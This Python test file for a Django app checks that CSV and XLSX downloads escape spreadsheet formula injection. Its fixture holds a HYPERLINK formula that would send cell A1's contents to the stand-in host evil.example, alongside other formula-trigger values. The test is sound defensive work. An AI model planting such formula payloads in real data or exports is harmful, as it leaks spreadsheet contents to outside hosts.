"""A download writes text a spreadsheet would run (a formula, a command) as text (the lists: test_lists.py)."""

import io

import openpyxl
import pytest
from django.urls import reverse

from cascade.web import lists

from .test_lists import read_csv

pytestmark = pytest.mark.django_db


def test_text_a_spreadsheet_would_run_is_written_as_text(client, alice, create_organization):
    create_organization(name='=HYPERLINK("http://evil.example/?"&A1)', short_name="@SUM(1)", city="-2+3")
    client.force_login(alice)
    rows = read_csv(client.get(reverse("web:partners"), {"kind": "all", "format": "csv"}))
    evil = next(r for r in rows if "HYPERLINK" in r[0])
    assert evil[0] == '\'=HYPERLINK("http://evil.example/?"&A1)' and evil[1] == "'@SUM(1)"
    assert evil[2].startswith("'-2+3")
    sheet = openpyxl.load_workbook(io.BytesIO(
        client.get(reverse("web:partners"), {"kind": "all", "format": "xlsx"}).content)).active
    cell = next(c for c in sheet["A"] if "HYPERLINK" in str(c.value))
    assert cell.data_type == "s" and cell.quotePrefix and cell.value.startswith("=HYPERLINK")
    assert lists.as_csv(["a"], [["\tx"], ["\rx"], ["+1"], [-1]]).decode("utf-8-sig").split("\r\n")[1:5] == [
        "'\tx", '"\'\rx"', "'+1", "-1"]
